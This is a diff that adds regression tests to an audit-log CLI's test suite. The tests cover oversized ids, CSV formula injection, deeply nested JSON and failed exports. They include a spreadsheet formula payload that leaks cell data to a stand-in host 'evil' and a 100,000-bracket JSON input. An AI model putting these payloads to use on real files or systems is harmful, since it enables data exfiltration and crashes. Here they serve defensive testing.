@@ -4,12 +4,15 @@ every bad input with its message and exit code (never a traceback)."""
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import datetime
 import io
 import json
 import os
+import re
 import shutil
+import sqlite3
 import subprocess
 import sys
 import time
@@ -167,6 +170,11 @@ BAD_INPUT = [
     (("hold", "release", "one"), 2, "invalid int value: 'one'"),
     (("reset-anchor",), 2, "the following arguments are required: --reason"),
     (("erase", "--subject", "x", "--override-hold"), 2, "needs --reason"),
+    # Outside trial: an id beyond SQLite's int64 was an OverflowError traceback.
+    (("hold", "release", "99999999999999999999999", "--reason", "r"), 2,
+     "is not a hold id"),
+    (("hold", "release", "-99999999999999999999999", "--reason", "r"), 2,
+     "is not a hold id"),
 ]
 
 
@@ -250,3 +258,108 @@ def test_an_export_of_a_trail_holding_such_text_is_whole_and_verifies(
     key = cli("audit", "public-key", "--data-dir", data)[1].strip()
     code, out_text, err = cli("audit", "verify-export", str(out), "--public-key", key)
     assert code == 0, out_text + err
+
+
+FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula(data: str, tmp_path: Path) -> None:
+    """Outside trial: client-chosen tenant and app names went into CSV cells as they
+    were, and a spreadsheet ran `=HYPERLINK(...)` as a formula. CSV cells starting with
+    = + - @ TAB or CR are prefixed with a single quote (OWASP); JSON Lines stay exact."""
+    store = open_store(make_settings(Path(data).parent))
+    try:
+        store.append([NewRecord(tenant=value, app=value, decision="ALLOW",
+                                retain_until=FUTURE) for value in FORMULAS])
+    finally:
+        store.close()
+    table, lines = tmp_path / "out.csv", tmp_path / "out.jsonl"
+    assert cli("audit", "export", "--data-dir", data, "--format", "csv", "-o", str(table),
+               "--decision", "allow")[0] == 0
+    assert cli("audit", "export", "--data-dir", data, "-o", str(lines),
+               "--decision", "allow")[0] == 0
+    cells = [row for row in csv.DictReader(io.StringIO(table.read_bytes().decode(), newline=""))
+             if row["tenant"] != "acme"]
+    assert [(row["tenant"], row["app"]) for row in cells] == [("'" + v, "'" + v)
+                                                              for v in FORMULAS]
+    for row in csv.DictReader(io.StringIO(table.read_bytes().decode(), newline="")):
+        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r"))
+                       for v in row.values()), row
+    exact = [json.loads(line) for line in lines.read_text().splitlines()]
+    assert [r["tenant"] for r in exact if r["tenant"] != "acme"] == FORMULAS
+    key = cli("audit", "public-key", "--data-dir", data)[1].strip()
+    assert cli("audit", "verify-export", str(table), "--public-key", key)[0] == 0
+
+
+DEEP = "[" * 100000
+
+
+def test_deeply_nested_json_is_a_malformed_file_not_a_traceback(
+        data: str, tmp_path: Path) -> None:
+    """Outside trial: `'[' * 100000` in the head anchor or an export manifest was a
+    RecursionError traceback (`cli` asserts there is none): the same message as short
+    garbage now, from every command that reads them."""
+    anchor = Path(data) / "keys" / "audit-anchor.json"
+    seen = {}
+    for name, text in (("garbage", "x"), ("deep", DEEP)):
+        anchor.write_text(text)
+        seen[name] = cli("audit", "verify", "--data-dir", data)
+    assert seen["deep"] == seen["garbage"], seen
+    assert seen["deep"][0] == 1 and "is malformed" in seen["deep"][2], seen
+    for name, text in (("garbage", "x"), ("deep", DEEP)):  # each adds a hold: stderr only
+        anchor.write_text(text)
+        code, _, err = cli("audit", "hold", "add", "--data-dir", data, "--tenant", "t",
+                           "--reason", "case")
+        seen[name] = (code, "", re.sub(r'"time": "[^"]*"', "", err))
+    assert seen["deep"] == seen["garbage"], seen
+    out = tmp_path / "out.jsonl"
+    anchor.unlink()
+    assert cli("audit", "export", "--data-dir", data, "-o", str(out))[0] == 0
+    results = {}
+    for name, text in (("garbage", "x"), ("deep", DEEP)):
+        manifest = tmp_path / f"{name}.json"
+        manifest.write_text(text)
+        code, _, err = cli("audit", "verify-export", str(out), "--manifest", str(manifest))
+        results[name] = (code, err.replace(str(manifest), "MANIFEST"))
+    assert results["deep"] == results["garbage"] == (2, results["garbage"][1]), results
+    assert "is not JSON" in results["deep"][1]
+
+
+def test_an_export_that_cannot_be_written_records_nothing(data: str, tmp_path: Path) -> None:
+    """Outside trial: `export -o /nonexistent/dir/x` (or -o DIRECTORY) exited 2 but had
+    already signed a checkpoint and moved the head anchor."""
+    anchor = Path(data) / "keys" / "audit-anchor.json"
+    before = anchor.read_bytes(), _checkpoints(data)
+    for target in (tmp_path / "nonexistent" / "dir" / "x", tmp_path):
+        code, _, err = cli("audit", "export", "--data-dir", data, "-o", str(target))
+        assert code == 2 and f"cannot write {target}" in err, err
+    assert (anchor.read_bytes(), _checkpoints(data)) == before
+
+
+def _checkpoints(data: str) -> int:
+    with contextlib.closing(sqlite3.connect(f"file:{data}/audit/audit.db?mode=ro",
+                                            uri=True)) as conn:
+        return int(conn.execute("SELECT COUNT(*) FROM checkpoints").fetchone()[0])
+
+
+def test_verify_export_shows_what_the_export_covers(data: str, tmp_path: Path) -> None:
+    """Outside trial: `verify-export FILE` said `ok` without saying which filters the
+    signed manifest names, so a partial export passed for a whole one, and a renamed
+    file was not noticed."""
+    out = tmp_path / "acme.csv"
+    code, _, err = cli("audit", "export", "--data-dir", data, "--tenant", "acme",
+                       "--subject", "bob-42", "--since", "2026-01-01T00:00:00Z",
+                       "--format", "csv", "-o", str(out))
+    assert code == 0, err
+    key = cli("audit", "public-key", "--data-dir", data)[1].strip()
+    code, text, err = cli("audit", "verify-export", str(out), "--public-key", key)
+    assert code == 0, err
+    assert "tenant=acme" in text and "subject_ref=" in text, text
+    assert "since=2026-01-01T00:00:00.000000Z" in text and "format csv" in text, text
+    assert "file acme.csv" in text and "WARNING" not in err, (text, err)
+    renamed = tmp_path / "everything.csv"
+    shutil.copy(out, renamed)
+    code, text, err = cli("audit", "verify-export", str(renamed), "--manifest",
+                          f"{out}.manifest.json", "--public-key", key)
+    assert code == 0 and "WARNING: the manifest names file 'acme.csv', not " \
+        "'everything.csv'" in err, err
